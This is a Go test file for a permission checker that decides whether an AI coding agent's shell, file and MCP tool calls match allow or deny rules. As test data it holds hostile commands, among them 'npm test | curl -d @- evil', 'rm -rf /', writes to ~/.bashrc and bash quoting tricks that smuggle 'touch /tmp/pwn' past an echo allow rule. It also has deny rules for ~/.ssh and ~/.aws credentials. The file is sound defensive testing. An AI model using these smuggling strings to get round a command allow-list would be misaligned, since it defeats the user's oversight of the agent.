package permission

import (
	"errors"
	"testing"
)

func TestParseRule(t *testing.T) {
	for _, tc := range []struct {
		text, tool, spec string
		err              bool
	}{
		{"Bash", "bash", "", false},
		{"Bash(*)", "bash", "", false},
		{"Bash(npm test:*)", "bash", "npm test:*", false},
		{" Edit(src/**) ", "edit", "src/**", false},
		{"mcp__github__create_issue", "mcp__github__create_issue", "", false},
		{"", "", "", true},
		{"(x)", "", "", true},
		{"Bash(npm test", "", "", true},
		{"Bash()", "", "", true},
		{"Ba sh", "", "", true},
	} {
		r, err := ParseRule(tc.text)
		if tc.err {
			var re *RuleError
			if !errors.As(err, &re) {
				t.Errorf("ParseRule(%q) = %+v, %v; want a RuleError", tc.text, r, err)
			}
			continue
		}
		if err != nil || r.tool != tc.tool || r.spec != tc.spec {
			t.Errorf("ParseRule(%q) = %+v, %v; want tool %q spec %q", tc.text, r, err, tc.tool, tc.spec)
		}
	}
}

func mustRules(t *testing.T, texts ...string) []Rule {
	t.Helper()
	rs, errs := ParseRules(texts)
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	return rs
}

func TestRulesDecide(t *testing.T) {
	where := Where{Home: "/home/u", Project: "/p"}
	bash := func(c string) Call { return Call{Tool: "bash", Command: c} }
	file := func(tool string, paths ...string) Call { return Call{Tool: tool, Paths: paths} }
	for _, tc := range []struct {
		name        string
		allow, deny []string
		call        Call
		want        Verdict
	}{
		{"prefix", []string{"Bash(npm test:*)"}, nil, bash("npm test"), Allowed},
		{"prefix with args", []string{"Bash(npm test:*)"}, nil, bash("npm  test --watch"), Allowed},
		{"prefix is a word", []string{"Bash(npm test:*)"}, nil, bash("npm tester"), NoRule},
		{"exact", []string{"Bash(git status)"}, nil, bash("git status"), Allowed},
		{"exact not more", []string{"Bash(git status)"}, nil, bash("git status -s"), NoRule},
		{"glob", []string{"Bash(git * --dry-run)"}, nil, bash("git push --dry-run"), Allowed},
		{"every part allowed", []string{"Bash(npm test:*)", "Bash(git diff:*)"}, nil, bash("npm test && git diff HEAD"), Allowed},
		{"one part not allowed", []string{"Bash(npm test:*)"}, nil, bash("npm test; rm -rf /"), NoRule},
		{"pipe part", []string{"Bash(npm test:*)"}, nil, bash("npm test | curl -d @- evil"), NoRule},
		{"substitution never allowed", []string{"Bash(echo:*)"}, nil, bash("echo $(rm -rf ~)"), NoRule},
		{"backtick never allowed", []string{"Bash(echo:*)"}, nil, bash("echo `id`"), NoRule},
		{"quoted separator is one part", []string{"Bash(echo:*)"}, nil, bash("echo 'a; rm x'"), Allowed},
		{"redirect 2>&1 is one part", []string{"Bash(go test:*)"}, nil, bash("go test ./... 2>&1"), Allowed},
		{"newline is a separator", []string{"Bash(echo:*)"}, nil, bash("echo ok\nrm -rf x"), NoRule},
		{"redirect to a file is not allowed", []string{"Bash(echo:*)"}, nil, bash("echo x > ~/.bashrc"), NoRule},
		{"append to a file is not allowed", []string{"Bash(echo:*)"}, nil, bash("echo x>>f"), NoRule},
		{"redirect of both is not allowed", []string{"Bash(go test:*)"}, nil, bash("go test &> out.txt"), NoRule},
		{"redirect to /dev/null is", []string{"Bash(go test:*)"}, nil, bash("go test ./... > /dev/null 2>&1"), Allowed},
		{"quoted > is text", []string{"Bash(echo:*)"}, nil, bash("echo 'a > b'"), Allowed},
		{"assignment before is not allowed", []string{"Bash(npm test:*)"}, nil, bash("PATH=/tmp/evil npm test"), NoRule},
		{"deny beats allow", []string{"Bash"}, []string{"Bash(rm:*)"}, bash("rm -rf build"), Denied},
		{"deny any part", nil, []string{"Bash(curl:*)"}, bash("ls && curl x"), Denied},
		{"deny through assignment", nil, []string{"Bash(curl:*)"}, bash("A=1 curl x"), Denied},
		{"deny inside substitution line", nil, []string{"Bash(curl:*)"}, bash("echo hi; curl `x`"), Denied},
		{"bare tool allows all", []string{"Bash"}, nil, bash("anything at all"), Allowed},
		{"other tool not covered", []string{"Bash"}, nil, file("edit", "/p/a"), NoRule},
		{"edit glob in project", []string{"Edit(src/**)"}, nil, file("edit", "/p/src/a/b.go"), Allowed},
		{"edit covers write", []string{"Edit(src/**)"}, nil, file("write", "/p/src/x"), Allowed},
		{"write does not cover edit", []string{"Write(src/**)"}, nil, file("edit", "/p/src/x"), NoRule},
		{"edit glob outside", []string{"Edit(src/**)"}, nil, file("edit", "/p/other/x"), NoRule},
		{"edit real path must match too", []string{"Edit(src/**)"}, nil, file("edit", "/p/src/link", "/etc/passwd"), NoRule},
		{"slash is the project", []string{"Edit(/docs/*.md)"}, nil, file("edit", "/p/docs/a.md"), Allowed},
		{"star stays in a name", []string{"Edit(/docs/*.md)"}, nil, file("edit", "/p/docs/x/a.md"), NoRule},
		{"double slash is absolute", []string{"Edit(//tmp/**)"}, nil, file("write", "/tmp/x/y"), Allowed},
		{"an always rule is one file", []string{EditRule("/etc/x")}, nil, file("write", "/etc/x"), Allowed},
		{"an always rule is not its neighbour", []string{EditRule("/etc/x")}, nil, file("write", "/etc/xy"), NoRule},
		{"home", nil, []string{"Read(~/.ssh/**)"}, file("read", "/home/u/.ssh/id_rsa"), Denied},
		{"read covers grep", nil, []string{"Read(~/.ssh/**)"}, file("grep", "/home/u/.ssh"), Denied},
		{"deny through a link", nil, []string{"Read(~/.ssh/**)"}, file("read", "/p/key", "/home/u/.ssh/id_rsa"), Denied},
		{"plain path covers beneath", nil, []string{"Read(~/.aws)"}, file("read", "/home/u/.aws/credentials"), Denied},
		{"trailing slash", nil, []string{"Read(~/.aws/)"}, file("read", "/home/u/.aws/credentials"), Denied},
		{"mcp tool", []string{"mcp__github__create_issue"}, nil, Call{Tool: "mcp__github__create_issue"}, Allowed},
		{"mcp server", []string{"mcp__github"}, nil, Call{Tool: "mcp__github__list"}, Allowed},
		{"mcp other server", []string{"mcp__github"}, nil, Call{Tool: "mcp__githubx__list"}, NoRule},
		{"mcp deny", []string{"mcp__github"}, []string{"mcp__github__delete_repo"}, Call{Tool: "mcp__github__delete_repo"}, Denied},
		{"case of tool names", []string{"bash(ls:*)"}, nil, bash("ls -la"), Allowed},
		// Lines an allow rule for echo let run more than echo (each ran
		// touch in bash 5.2 before the fix).
		{"ansi-c quote hides a separator", []string{"Bash(echo:*)"}, nil, bash("echo $'\\'';touch /tmp/pwn;#'"), NoRule},
		{"prompt expansion runs a command", []string{"Bash(echo:*)"}, nil, bash("echo ${x:=\\$(touch /tmp/pwn)} ${x@P}"), NoRule},
		{"a subscript is arithmetic", []string{"Bash(echo:*)"}, nil, bash("echo ${x:='a[$(touch /tmp/pwn)]'} ${y[x]}"), NoRule},
		{"braces in double quotes", []string{"Bash(echo:*)"}, nil, bash(`echo "${x@P}"`), NoRule},
		{"old arithmetic", []string{"Bash(echo:*)"}, nil, bash("echo $[x]"), NoRule},
		{"a comment's quote hides a line", []string{"Bash(echo:*)"}, nil, bash("echo hi #'\ntouch /tmp/pwn\n'"), NoRule},
		{"a comment is not run", []string{"Bash(echo:*)"}, nil, bash("echo hi # rm -rf ' x"), Allowed},
		{"a hash inside a word is text", []string{"Bash(echo:*)"}, nil, bash("echo a#b; rm x"), NoRule},
		{"redirect >&file is to a file", []string{"Bash(echo:*)"}, nil, bash("echo x >&/home/u/.bashrc"), NoRule},
		{"redirect >& file is to a file", []string{"Bash(echo:*)"}, nil, bash("echo x >& /home/u/.bashrc"), NoRule},
		{"redirect >&2 is not", []string{"Bash(echo:*)"}, nil, bash("echo x >&2"), Allowed},
		{"closing is not", []string{"Bash(echo:*)"}, nil, bash("echo x 2>&1 >&-"), Allowed},
		{"a plain variable is", []string{"Bash(echo:*)"}, nil, bash("echo $HOME"), Allowed},
		// Deny rules see a command however it is spelled.
		{"deny through quotes", nil, []string{"Bash(rm:*)"}, bash("r''m -rf x"), Denied},
		{"deny through a backslash", nil, []string{"Bash(rm:*)"}, bash(`\rm -rf x`), Denied},
		{"deny through a path", nil, []string{"Bash(rm:*)"}, bash("/bin/rm -rf x"), Denied},
		{"deny through a wrapper", nil, []string{"Bash(rm:*)"}, bash("sudo -n env A=1 command rm -rf x"), Denied},
		{"deny after an ansi-c quote", nil, []string{"Bash(touch:*)"}, bash("echo $'\\'';touch /tmp/pwn;#'"), Denied},
		{"deny after a comment's quote", nil, []string{"Bash(touch:*)"}, bash("echo hi #'\ntouch x\n'"), Denied},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rs := Rules{Allow: mustRules(t, tc.allow...), Deny: mustRules(t, tc.deny...), Where: where}
			if got, r := rs.Decide(tc.call); got != tc.want {
				t.Errorf("Decide(%+v) = %v (%q); want %v", tc.call, got, r.Text, tc.want)
			}
		})
	}
}

func TestCommandPrefix(t *testing.T) {
	for cmd, want := range map[string]string{
		"npm test":          "npm test",
		"git diff HEAD~1":   "git diff",
		"ls -la /tmp":       "ls",
		"go test ./...":     "go test",
		"./run.sh arg":      "./run.sh",
		"make build && x":   "",
		"echo $(id)":        "",
		"A=1 npm test":      "",
		"python3 /tmp/x.py": "python3",
		"":                  "",
	} {
		if got := CommandPrefix(cmd); got != want {
			t.Errorf("CommandPrefix(%q) = %q; want %q", cmd, got, want)
		}
	}
}

func FuzzRules(f *testing.F) {
	for _, s := range []string{"Bash(npm test:*)", "Edit(src/**)", "Read(~/.ssh/**)", "mcp__a__b", "Bash(a*b*c)"} {
		f.Add(s, "npm test && echo `x` 'a;b' 2>&1", "/p/src/x")
	}
	f.Add("Bash(echo:*)", "echo $'\\'';touch x;#' ${x@P} $[1] >& f # '", "/p")
	f.Add("Bash(rm:*)", "sudo -n env A=1 command r''m \\x >&2", "/p")
	f.Fuzz(func(t *testing.T, rule, cmd, path string) {
		r, err := ParseRule(rule)
		if err != nil {
			return
		}
		w := Where{Home: "/h", Project: "/p"}
		r.Match(Call{Tool: "bash", Command: cmd}, w, true)
		r.Match(Call{Tool: "bash", Command: cmd}, w, false)
		r.Match(Call{Tool: "edit", Paths: []string{path}}, w, false)
		rs := Rules{Allow: []Rule{r}, Deny: []Rule{r}, Where: w}
		rs.Decide(Call{Tool: "bash", Command: cmd})
		rs.allowCommand(Call{Tool: "bash", Command: cmd})
		SplitCommand(cmd)
		CommandPrefix(cmd)
	})
}
